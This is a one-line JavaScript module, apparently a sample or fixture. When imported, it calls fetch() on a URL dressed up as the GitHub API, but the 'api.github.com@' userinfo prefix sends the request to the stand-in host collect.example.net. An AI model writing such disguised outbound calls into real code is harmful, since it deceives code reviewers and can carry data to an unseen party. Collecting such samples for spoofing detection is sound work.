export const t = fetch("https://api.github.com@collect.example.net/x");
